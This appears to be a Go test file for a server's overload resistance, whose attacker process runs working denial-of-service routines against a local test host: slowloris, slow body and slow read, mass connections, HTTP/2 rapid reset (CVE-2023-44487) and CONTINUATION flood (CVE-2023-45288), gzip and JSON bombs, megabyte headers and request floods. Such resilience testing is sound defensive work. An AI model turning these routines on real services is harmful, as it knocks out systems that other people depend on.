package overload

import (
	"bytes"
	"compress/gzip"
	"crypto/tls"
	"fmt"
	"io"
	"net"
	"os"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// attacks are what the attacker does until it is ended. It comes from one
// address; all of them speak TLS.
var attacks = []struct {
	name, what string
	run        func(a *attacker)
}{
	{"slowloris", "2,000 connections, each sending one more header line every half second, opened again when closed", slowHeader},
	{"slow body", "1,000 POSTs of a declared megabyte, one byte every half second", slowBody},
	{"slow read", "500 connections that ask for answers of 256 KiB and read a byte at a time", slowRead},
	{"10,000 connections", "10,000 connections held open after their TLS handshake, opened again when closed", manyConnections},
	{"rapid reset", "HTTP/2 streams opened and reset at once, as fast as one core can (CVE-2023-44487)", rapidReset},
	{"continuation flood", "HTTP/2 header blocks that never end (CVE-2023-45288)", continuations},
	{"bombs", "gzip bodies of 10 MB of zeros, JSON nested 100,000 deep, arrays of a million, in turn", bombs},
	{"1 MB headers", "requests with a megabyte of header fields", largeHeaders},
	{"plain flood", "well-formed requests with a bad token, as fast as one core can", flood},
}

// attacker is the other side's process.
type attacker struct {
	address string
	made    atomic.Int64 // connections
	sent    atomic.Int64 // requests, or their beginnings
	refused atomic.Int64 // connections that were closed on it
}

// TestMain is also the attacker's main function.
func TestMain(m *testing.M) {
	name := os.Getenv("CRENEL_ATTACK")
	if name == "" {
		os.Exit(m.Run())
	}
	for _, k := range attacks {
		if k.name == name {
			a := &attacker{address: os.Getenv("CRENEL_ATTACKED")}
			go k.run(a)
			_, _ = io.Copy(io.Discard, os.Stdin) // until the test ends it
			fmt.Printf("%d %d %d\n", a.made.Load(), a.sent.Load(), a.refused.Load())
			os.Exit(0)
		}
	}
	os.Exit(2)
}

// dial connects from the attacker's address.
func (a *attacker) dial(protocol string) (*tls.Conn, error) {
	d := net.Dialer{LocalAddr: &net.TCPAddr{IP: net.IPv4(127, 0, 0, 2)}, Timeout: 3 * time.Second}
	raw, err := d.Dial("tcp", a.address)
	if err != nil {
		a.refused.Add(1)
		time.Sleep(20 * time.Millisecond)
		return nil, err
	}
	a.made.Add(1)
	c := tls.Client(raw, &tls.Config{InsecureSkipVerify: true, NextProtos: []string{protocol}, ServerName: "api.test"})
	_ = raw.SetDeadline(time.Now().Add(5 * time.Second))
	if err := c.Handshake(); err != nil {
		a.refused.Add(1)
		_ = raw.Close()
		return nil, err
	}
	_ = raw.SetDeadline(time.Time{})
	return c, nil
}

// many runs f over and over, in n goroutines.
func many(n int, f func()) {
	var wg sync.WaitGroup
	for range n {
		wg.Go(func() {
			for {
				f()
			}
		})
	}
	wg.Wait()
}

func (a *attacker) trickle(begin, piece string, every time.Duration) {
	c, err := a.dial("http/1.1")
	if err != nil {
		return
	}
	defer c.Close()
	a.sent.Add(1)
	for _, err = io.WriteString(c, begin); err == nil; _, err = io.WriteString(c, piece) {
		time.Sleep(every)
	}
	a.refused.Add(1)
}

func slowHeader(a *attacker) {
	many(2000, func() { a.trickle("GET /things HTTP/1.1\r\nHost: api.test\r\n", "X-A: b\r\n", 500*time.Millisecond) })
}

func slowBody(a *attacker) {
	many(1000, func() {
		a.trickle("POST /things HTTP/1.1\r\nHost: api.test\r\nContent-Type: application/json\r\nContent-Length: 1000000\r\n\r\n", " ", 500*time.Millisecond)
	})
}

func slowRead(a *attacker) {
	many(500, func() {
		c, err := a.dial("http/1.1")
		if err != nil {
			return
		}
		defer c.Close()
		a.sent.Add(1)
		if _, err := io.WriteString(c, "GET /large HTTP/1.1\r\nHost: api.test\r\n\r\n"); err != nil {
			return
		}
		one := make([]byte, 1)
		for range 20 {
			if _, err := c.Read(one); err != nil {
				a.refused.Add(1)
				return
			}
			time.Sleep(time.Second)
		}
	})
}

func manyConnections(a *attacker) {
	many(10_000, func() {
		c, err := a.dial("http/1.1")
		if err != nil {
			time.Sleep(time.Second)
			return
		}
		defer c.Close()
		if _, err := c.Read(make([]byte, 1)); err != nil {
			a.refused.Add(1)
			time.Sleep(time.Second)
		}
	})
}

// frames opens an HTTP/2 connection and has f write frames until that fails.
func (a *attacker) frames(f func(fr *http2.Framer, head []byte, stream uint32) error) {
	c, err := a.dial("h2")
	if err != nil {
		return
	}
	defer c.Close()
	go func() { _, _ = io.Copy(io.Discard, c) }()
	var head bytes.Buffer
	enc := hpack.NewEncoder(&head)
	for _, h := range [][2]string{{":method", "GET"}, {":scheme", "https"}, {":authority", "api.test"}, {":path", "/things"}} {
		_ = enc.WriteField(hpack.HeaderField{Name: h[0], Value: h[1]})
	}
	if _, err := io.WriteString(c, http2.ClientPreface); err != nil {
		return
	}
	fr := http2.NewFramer(c, c)
	if err := fr.WriteSettings(); err != nil {
		return
	}
	for stream := uint32(1); err == nil && stream < 1<<30; stream += 2 {
		err = f(fr, head.Bytes(), stream)
		a.sent.Add(1)
	}
	a.refused.Add(1)
}

func rapidReset(a *attacker) {
	many(8, func() {
		a.frames(func(fr *http2.Framer, head []byte, stream uint32) error {
			if err := fr.WriteHeaders(http2.HeadersFrameParam{StreamID: stream, BlockFragment: head, EndStream: true, EndHeaders: true}); err != nil {
				return err
			}
			return fr.WriteRSTStream(stream, http2.ErrCodeCancel)
		})
	})
}

func continuations(a *attacker) {
	many(8, func() {
		a.frames(func(fr *http2.Framer, head []byte, stream uint32) error {
			if stream == 1 {
				return fr.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: head, EndStream: true})
			}
			return fr.WriteContinuation(1, false, bytes.Repeat([]byte{0x00, 1, 'x', 1, 'y'}, 200))
		})
	})
}

// request sends one request and reads the beginning of its answer.
func (a *attacker) request(text ...string) {
	c, err := a.dial("http/1.1")
	if err != nil {
		return
	}
	defer c.Close()
	a.sent.Add(1)
	_ = c.SetDeadline(time.Now().Add(5 * time.Second))
	for _, s := range text {
		if _, err := io.WriteString(c, s); err != nil {
			break
		}
	}
	_, _ = c.Read(make([]byte, 512))
}

func bombs(a *attacker) {
	var zip bytes.Buffer
	z := gzip.NewWriter(&zip)
	_, _ = z.Write(append(append([]byte(`{"a":"`), make([]byte, 10<<20)...), `"}`...))
	_ = z.Close()
	post := func(body, more string) string {
		return "POST /things HTTP/1.1\r\nHost: api.test\r\nAuthorization: Bearer " + os.Getenv("CRENEL_ATTACK_TOKEN") + "\r\nContent-Type: application/json\r\n" + more + "Content-Length: " + strconv.Itoa(len(body)) + "\r\n\r\n" + body
	}
	list := []string{
		post(zip.String(), "Content-Encoding: gzip\r\n"),
		post(strings.Repeat("[", 100_000)+strings.Repeat("]", 100_000), ""),
		post(`{"a":"x","b":[`+strings.Repeat("1,", 490_000)+"1]}", ""),
	}
	var n atomic.Int64
	many(8, func() { a.request(list[n.Add(1)%int64(len(list))]) })
}

func largeHeaders(a *attacker) {
	line := "X-A" + strings.Repeat("a", 20) + ": " + strings.Repeat("b", 1000) + "\r\n"
	text := "GET /things HTTP/1.1\r\nHost: api.test\r\n" + strings.Repeat(line, 1024) + "\r\n"
	many(16, func() { a.request(text) })
}

func flood(a *attacker) {
	text := "GET /things HTTP/1.1\r\nHost: api.test\r\nAuthorization: Bearer e30.e30.AAAA\r\n\r\n"
	many(64, func() {
		c, err := a.dial("http/1.1")
		if err != nil {
			return
		}
		defer c.Close()
		room := make([]byte, 4096)
		for {
			if _, err := io.WriteString(c, text); err != nil {
				return
			}
			a.sent.Add(1)
			if _, err := c.Read(room); err != nil {
				a.refused.Add(1)
				return
			}
		}
	})
}
